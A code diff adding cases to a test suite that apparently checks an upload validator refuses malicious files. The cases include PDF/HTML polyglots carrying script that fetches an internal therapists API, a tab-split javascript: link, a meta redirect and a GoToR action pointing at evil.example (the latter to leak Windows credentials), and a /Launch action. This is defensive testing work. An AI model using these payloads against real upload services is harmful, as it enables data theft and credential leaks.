@@ -97,6 +97,17 @@ def html_in_a_plain_stream(writer, _page):
     writer.root_object[name("/Metadata")] = writer._add_object(stream)
 
 
+def html_as_image_samples(writer, page):
+    # Samples stored as written are bytes in the file like any other: a browser reads the page in them.
+    image = DecodedStreamObject()
+    image.set_data(b"<html><body><script>fetch('/api/v1/therapists')</script></body></html>")
+    image.update({name("/Type"): name("/XObject"), name("/Subtype"): name("/Image"), name("/Width"): NumberObject(72),
+                  name("/Height"): NumberObject(1), name("/ColorSpace"): name("/DeviceGray"),
+                  name("/BitsPerComponent"): NumberObject(8)})
+    page[name("/Resources")] = DictionaryObject(
+        {name("/XObject"): DictionaryObject({name("/Im0"): writer._add_object(image)})})
+
+
 def html_in_the_header_comment() -> bytes:
     clean = files.pdf()
     binary_comment = clean.split(b"\n")[1]  # "%" and four high bytes, which mark the file as binary
@@ -187,6 +198,13 @@ REFUSED = {
     "a PDF with a link to a javascript: address": (
         lambda: pdf_with(annotation("/Link", A=action("/URI", URI=TextStringObject(" JavaScript:alert(1)")))),
         JAVASCRIPT),
+    "a PDF with a link to a javascript: address broken by a tab, which browsers drop": (
+        lambda: pdf_with(annotation("/Link", A=action("/URI", URI=TextStringObject("java\tscript:alert(1)")))),
+        JAVASCRIPT),
+    "a PDF whose OpenAction opens a file on another host (leaking Windows credentials)": (
+        lambda: pdf_with(on_open(lambda _w: action("/GoToR", F=TextStringObject("\\\\evil.example\\share\\x.pdf"),
+                                                   D=ArrayObject([NumberObject(0), name("/Fit")])))),
+        "carries an action that opens another file"),
     "a PDF whose OpenAction launches a program": (
         lambda: pdf_with(on_open(lambda _w: action("/Launch", F=TextStringObject("calc.exe")))), LAUNCH),
     "a PDF with a launch at the end of an action chain": (
@@ -212,6 +230,17 @@ REFUSED = {
     "a PDF/HTML polyglot with markup in its header comment": (html_in_the_header_comment, MARKUP),
     "a PDF/HTML polyglot with a page of markup in a plain stream": (lambda: pdf_with(html_in_a_plain_stream), MARKUP),
     "a PDF with HTML after its end": (lambda: files.pdf() + b"\n<!DOCTYPE html><p>hi</p>", MARKUP),
+    "a PDF/HTML polyglot with a page of markup as an image's samples": (
+        lambda: pdf_with(html_as_image_samples), MARKUP),
+    "a PDF/HTML polyglot with a page of markup in a stream no table lists": (
+        lambda: files.pdf() + b"9 0 obj\n<< /Length 41 >>\nstream\n<html><script>alert(1)</script></html>\n"
+                              b"endstream\nendobj\n", MARKUP),
+    "a PDF/HTML polyglot whose image tag runs script": (
+        lambda: files.pdf() + b"\n<img src=x onerror=fetch('/api/v1/therapists')>\n", MARKUP),
+    "a PDF/HTML polyglot whose meta tag sends the browser elsewhere": (
+        lambda: files.pdf() + b"\n<meta http-equiv=refresh content='0;url=https://evil.example/'>\n", MARKUP),
+    "a PDF/HTML polyglot with a handler on a tag of any name": (
+        lambda: files.pdf() + b"\n<p id=x tabindex=1 onfocus=alert(1) autofocus>\n", MARKUP),
     "a PDF with a ZIP archive after its end": (lambda: files.pdf() + zip_archive(), "is also a ZIP archive"),
     "a 20000 x 20000 PNG decompression bomb": (png_bomb, "is larger than 40,000,000 pixels"),
     "a PNG carrying HTML in a text chunk": (lambda: png_with_text("<html><body onload=alert(1)>"), MARKUP),
